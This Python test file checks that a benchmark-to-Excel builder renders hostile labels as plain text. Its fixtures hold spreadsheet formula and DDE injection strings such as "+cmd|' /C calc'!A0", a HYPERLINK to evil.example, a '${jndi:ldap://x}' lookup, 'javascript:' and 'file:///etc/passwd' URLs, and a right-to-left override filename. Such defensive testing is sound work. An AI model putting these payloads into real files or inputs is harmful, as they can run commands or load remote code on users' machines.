"""Labels that attack: whatever a result file says, the workbook shows it as text, or the build refuses in one sentence."""

from __future__ import annotations

import json
import re
import unicodedata
import zipfile
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support.engine import Book
from support.finder import Workbook
from support.layouts import materials
from support.parts import formula_texts
from support.rows import api_metrics, api_row
from support.tables import SPEEDS, pair_rows, write_table
from support.validator import complaints

import specxl
from specxl.errors import SpecxlError
from specxl.model.cells import Formula, Link
from specxl.model.formulas import ALLOWED_FUNCTIONS
from specxl.reading.dataset import load
from specxl.sheets.book import build_book
from specxl.sheets.frame import CHANGES, EXPLORER, FIXED_NAMES, MOVED, SAME_ENGINE

if TYPE_CHECKING:
    from pathlib import Path

    from specxl.house import House
    from specxl.sheets.book import Layout

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "＠x",  # noqa: RUF001
    "'=1",
    "{=1}",
)
CHARACTERS = (
    "a\x00b\x07c",
    "\u202eexe.gpj\u202c",
    "\ud800x",
    "x" * 40_000,
    "😀" * 40,
    "日本語テスト",
    "e\u0301",
    "\ufffe\uffff",
    "_x0041_ _x003D_1",
)
MARKUP = ('"quoted"', "it's", "a & b", "<b>bold</b>]]>", "<!--", "&amp;&#0;", "%s {0} {model}", "${jndi:ldap://x}")
NAMES = (
    "H100",
    "B300",
    "R1C1",
    "A1:B2",
    "TRUE",
    "1e5",
    "2026-01-01",
    "#REF!",
    "#N/A",
    "History",
    "Summary",
    "checks",
    "SGLang",
    "sgLANG",
    "*",
    "?",
    "~",
    "a*b?c~d",
    "[x]/\\:y",
    "x" * 13 + "'z",
    "",
    "   ",
    "\u200b",
)
CORPUS = (*FORMULAS, *CHARACTERS, *MARKUP, *NAMES)
URLS = (
    "javascript:alert(1)",
    "file:///etc/passwd",
    "http://github.com/x",
    "https://evil.example/github.com",
    "https://github.com.evil.example/",
    "https://user@github.com/",
    "\\\\server\\share",
    'https://github.com/"><x>',
    "https://github.com/" + "a" * 300,
    "mailto:x@example.org",
)
GOOD_URL = "https://github.com/SemiAnalysisAI/InferenceX/actions/runs/1"
FORBIDDEN = re.compile(r"[\[\]:*?/\\!|]")
LITERAL = re.compile(r'"(?:[^"]|"")*"')
QUOTED = re.compile(r"'(?:[^']|'')*'")
CELL_LIKE = re.compile(r"[A-Za-z]{1,3}\d+|[Rr]\d*[Cc]\d*")
RISKY = tuple("=+-@\t\r\n＝＋－＠")  # noqa: RUF001
KEYS = {
    "model": "model",
    "hardware": "hardware",
    "engine": "framework",
    "precision": "precision",
    "variant": "spec_method",
    "image": "image",
    "link": "run_url",
}


def api_rows(**facts: object) -> list[dict[str, Any]]:
    """Three knots of each variant as rows of the API, whose JSON can carry any character."""
    loads = ((8, 60, 200), (4, 90, 90), (2, 120, 40))
    return [
        api_row(conc=c, **{"spec_method": variant} | facts, metrics=api_metrics(s * gain, t, c))
        for variant, gain in (("none", 1.0), ("mtp", 1.1))
        for c, s, t in loads
    ]


def write_rows(path: Path, rows: list[dict[str, Any]]) -> Path:
    """Write rows as a saved answer; JSON escapes what is not ASCII."""
    path.write_text(json.dumps(rows), encoding="ascii")
    return path


def sheet_name_faults(names: list[str]) -> list[str]:
    """The names that break Excel's rules for sheets, or that an earlier name equals without regard to case."""
    seen: set[str] = set()
    faults = []
    for name in names:
        units = len(name.encode("utf-16-le")) // 2
        broken = FORBIDDEN.search(name) or name.startswith("'") or name.endswith("'") or CELL_LIKE.fullmatch(name)
        if broken or not 1 <= units <= 31 or name != name.strip() or name.casefold() in seen | {"history"}:
            faults.append(name)
        seen.add(name.casefold())
    return faults


def is_plain(text: str) -> bool:
    """Whether a text is one line without controls, invisible marks and halves of characters."""
    return not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Cn", "Zl", "Zp"} for char in text)


# --- a whole workbook of them -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build one workbook in which every field holds hostile labels; the input file has a hostile name too."""
    folder = tmp_path_factory.mktemp("hostile")
    rows: list[dict[str, Any]] = []
    for label in ("=1+1", "+cmd|' /C calc'!A0", "#REF!", "😀" * 40, "B300", "x" * 40_000, "X" * 31, "a&<b>\ud800"):
        rows += api_rows(model=label)
    for label in ("=1+1", "x" * 13 + "'z", "[a]*b", "summary"):
        rows += api_rows(hardware=label)
    for place, label in enumerate(CORPUS[::4]):
        rows.append(api_rows(framework=label, hardware="b200")[place % 6] | {"conc": 100 + place})
    for label in CORPUS[1::8]:
        rows += api_rows(precision=label, hardware="b200")
    for label in CORPUS[2::8]:
        rows += api_rows(spec_method=label, hardware="gb200")[3:]
    rows += api_rows(hardware="gb200")[:3]
    for place, row in enumerate(rows):
        row["image"], row["run_url"] = CORPUS[place % len(CORPUS)], (*URLS, GOOD_URL)[place % (len(URLS) + 1)]
    table = [row for label in CORPUS[3::8] if label.isprintable() for row in pair_rows(workload=label)]
    inputs = [
        write_rows(folder / "=1+1 & <x>'.json", rows),
        write_table(folder / "-cmd.csv", [row | {"parallelism": "@SUM(1)"} for row in table]),
    ]
    title = CORPUS[1] + " \ud800\u202e & <b>"
    return specxl.build(inputs, folder / "hostile.xlsx", specxl.BuildOptions(title=title)).path


@pytest.fixture(scope="module")
def book(hostile: Path) -> openpyxl.Workbook:
    """Read that workbook as it stands, formulas as formulas, with the properties of its cells."""
    return openpyxl.load_workbook(hostile)


@pytest.mark.validator
def test_the_workbook_of_hostile_labels_is_valid(hostile: Path) -> None:
    """The Open XML SDK finds nothing wrong with it."""
    assert complaints(hostile) == []


def test_every_part_is_well_formed_and_none_is_foreign(hostile: Path) -> None:
    """All parts parse as XML, and no macro, external link, connection or embedded object has come in."""
    with zipfile.ZipFile(hostile) as package:
        for name in package.namelist():
            ET.fromstring(package.read(name))  # noqa: S314 - our own file
            assert not re.search(r"vba|externalLink|connection|embed|activeX|customXml", name, re.IGNORECASE), name


def test_no_label_became_a_formula(hostile: Path) -> None:
    """No formula calls a function beyond those we write, and none holds a label's text as a literal."""
    texts = formula_texts(hostile).values()
    literals = {text for formula in texts for text in LITERAL.findall(formula)}
    marks = ("1+1", "cmd", "SUM(1)", "evil", "<b>", "exe.gpj", "jndi", "xxxxxxxxxxx")
    assert [text for text in literals if any(mark in text for mark in marks)] == []
    bare = {QUOTED.sub("", LITERAL.sub("", formula)) for formula in texts}
    assert {name for formula in bare for name in re.findall(r"([A-Z][A-Z0-9.]*)\(", formula)} <= ALLOWED_FUNCTIONS
    assert [formula for formula in bare if re.search(r"[|\[\]{}@#]", formula)] == []


def test_no_label_became_a_link(hostile: Path, book: openpyxl.Workbook) -> None:
    """Every link stays inside the workbook or leads over https to a host on the list; the good one is there."""
    with zipfile.ZipFile(hostile) as package:
        parts = [package.read(name).decode() for name in package.namelist() if name.endswith(".rels")]
    assert set(re.findall(r'Target="([^"]*)" TargetMode="External"', "".join(parts))) == {GOOD_URL}
    links = [cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert {link.target for link in links if link.target} == {GOOD_URL}
    inside = {link.location.rpartition("!")[0] for link in links if not link.target}
    assert len(inside) >= 15
    assert inside <= {"'" + name.replace("'", "''") + "'" for name in book.sheetnames}


def test_every_text_is_one_plain_line(hostile: Path) -> None:
    """No cell, title or property holds a control, an invisible mark, half a character or a line break."""
    shown = openpyxl.load_workbook(hostile, data_only=True)
    texts = [cell.value for sheet in shown for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    texts += [shown.properties.title, shown.properties.description]
    texts += [str(prop.value) for prop in shown.custom_doc_props.props]
    assert len(texts) > 5_000
    assert [text for text in texts if not is_plain(text)] == []
    assert max(len(text) for text in texts) < 32_767


def test_labels_are_shown_as_they_were(book: openpyxl.Workbook) -> None:
    """On Measurements the image of a row is its label, cleaned and stored as text, whatever it looks like."""
    sheet = book["Measurements"]
    column = next(cell.column for cell in sheet[6] if cell.value == "Container image")
    cells = [sheet.cell(row, column) for row in range(7, sheet.max_row + 1)]
    shown = {cell.value for cell in cells}
    for label in (
        "=1+1",
        "-2+3",
        "@SUM(1)",
        "+cmd|' /C calc'!A0",
        "<b>bold</b>]]>",
        "'=1",
        "TRUE",
        "1e5",
        "#REF!",
        "abc",
    ):
        assert label in shown, label
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}


def test_risky_text_keeps_its_quote(book: openpyxl.Workbook) -> None:
    """A text cell that a program would parse as a formula when edited carries the quote prefix, and no other does."""
    texts = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
    risky = [cell for cell in texts if str(cell.value).startswith(RISKY)]
    assert len(risky) > 20
    assert [cell for cell in texts if cell.quotePrefix] == risky


def test_sheets_have_names_that_excel_takes(book: openpyxl.Workbook) -> None:
    """31 UTF-16 units at most, no forbidden character, no quote at the ends, no cell address, unique in any case."""
    assert sheet_name_faults(book.sheetnames) == []
    assert len(book.sheetnames) == len(FIXED_NAMES) - len({CHANGES, MOVED}) + 8 + 4 + 3
    assert [name for name in book.sheetnames if "(2)" in name] == ["xxxxxxxxxxxxxxxxxxxxxx H200 (2)"]


# --- dropdowns --------------------------------------------------------------------------------------------------------


def test_dropdowns_choose_the_right_curve_although_labels_collide(tmp_path: Path) -> None:
    """Labels that Excel would take for one another are told apart, and each chooses its own curve."""
    labels = ["Chat", "chat", "CHAT (2)", "ch*t", "ch?t", "ch-t", "~", "=1+1", "<5", "a" * 300, "a" * 300 + "b", "TRUE"]
    rows = [
        row | {"total_tok_s_gpu": row["total_tok_s_gpu"] * (1 + number), "output_tok_s_gpu": "", "input_tok_s_gpu": ""}
        for number, label in enumerate(labels)
        for row in pair_rows(workload=label)
    ]
    path = specxl.build([write_table(tmp_path / "t.csv", rows)], tmp_path / "out.xlsx").path
    book, engine = Workbook(path), Book(path)
    page = book.pairs[0]

    choices = page.combinations()

    assert len({choice.casefold() for choice in choices}) == len(labels) - 1  # both long labels are cut to one
    assert not [choice for choice in choices if re.search(r"[*?~]", choice) or len(choice) > 255]
    target, figure = page.targets[0], page.block(0)["a_y"]
    seen = [engine.edit({page.controls["combination"]: choice, target: 60}, [figure])[figure] for choice in choices]
    factors = sorted(round(float(str(value)) / SPEEDS["mtp"][0][1]) for value in seen)
    # The rows of the two long labels are now one setting that contradicts itself: the lower counts.
    assert factors == [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 12]


# --- any label --------------------------------------------------------------------------------------------------------


def lay_out(path: Path, house: House, title: str) -> tuple[Layout | None, str]:
    """Lay out the model of a saved answer without evaluating or writing it; or say why it is refused."""
    options = specxl.BuildOptions(title=title)
    try:
        return build_book(materials(load([path], house), house, options)), ""
    except SpecxlError as error:
        return None, str(error)


LABELS = st.one_of(
    st.sampled_from(CORPUS), st.text(max_size=60), st.text(alphabet="=+-@'\"*?~!:[]/\\&<> a😀", max_size=40)
)


@pytest.mark.filterwarnings("ignore:Generating overly large repr:hypothesis.errors.HypothesisWarning")
@pytest.mark.slow
@settings(max_examples=30, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(one=LABELS, other=LABELS, field=st.sampled_from(sorted(KEYS)), title=LABELS)
def test_any_label_is_laid_out_as_text(
    tmp_path: Path, house: House, one: str, other: str, field: str, title: str
) -> None:
    """Whatever two labels meet in a field, the model obeys Excel's rules, or the input is refused in one sentence."""
    rows = [row for label in (one, other) for row in api_rows(**{KEYS[field]: label})]
    layout, refusal = lay_out(write_rows(tmp_path / "rows.json", rows), house, title)
    if layout is None:
        assert is_plain(refusal)
        assert len(refusal) < 1_000
        return
    names = [sheet.name for sheet in layout.book.sheets]
    assert sheet_name_faults(names) == []
    assert set(FIXED_NAMES) - {SAME_ENGINE, CHANGES, EXPLORER, MOVED} <= set(names)
    for sheet in layout.book.sheets:
        for cell in sheet.cells.values():
            if isinstance(cell.content, str):
                assert is_plain(cell.content)
                assert len(cell.content) <= 1_000
            elif isinstance(cell.content, Link):
                inside = cell.content.target.startswith("#'") and cell.content.target[2:].rpartition("'!")[0]
                assert inside in {n.replace("'", "''") for n in names} or cell.content.target.startswith("https://")
            elif isinstance(cell.content, Formula):
                assert len(cell.content.source) <= 8_192
    for pair in layout.pairs:
        for area in (pair.chosen.tables.combinations, pair.chosen.tables.scopes):
            cells = layout.book.sheet(area.first.sheet).cells
            texts = [str(cells[area.cell(i).row, area.cell(i).col].content) for i in range(area.rows)]
            assert len({text.casefold() for text in texts}) == len(texts)
            assert not [text for text in texts if re.search(r"[*?~]", text) or not 0 < len(text) <= 255]


@pytest.mark.parametrize("title", [FORMULAS[1], CHARACTERS[3], "\ud800\x00&<]]>", "   "])
def test_a_hostile_title_is_text(tmp_path: Path, title: str) -> None:
    """The title of the command line is cleaned like any other text: one line, at most 120 characters, or the default."""
    table = write_table(tmp_path / "t.csv", pair_rows())

    book = openpyxl.load_workbook(specxl.build([table], tmp_path / "o.xlsx", specxl.BuildOptions(title=title)).path)

    shown = next(cell for row in book["Checks"].iter_rows() for cell in row if cell.value == book.properties.title)
    assert shown.data_type == "s"
    assert is_plain(shown.value)
    assert 1 <= len(shown.value) <= 120
    assert (
        book["Summary"]["A1"].data_type == "f"
    )  # the message; the title stands on Checks, and the Summary refers to it


@pytest.mark.parametrize("field", ["model", "hardware"])
@pytest.mark.parametrize("label", ["", "   ", "\u200b", "\x00"])
def test_a_name_that_is_empty_when_cleaned_is_asked_for(tmp_path: Path, field: str, label: str) -> None:
    """A model or hardware without a visible name is not invented: the build says what is missing and how to give it."""
    rows = write_rows(tmp_path / "rows.json", api_rows(**{field: label}))

    with pytest.raises(SpecxlError, match=f"the file does not say {field}: give it in specxl.toml or with --set"):
        specxl.build([rows], tmp_path / "out.xlsx")

    assert not (tmp_path / "out.xlsx").exists()
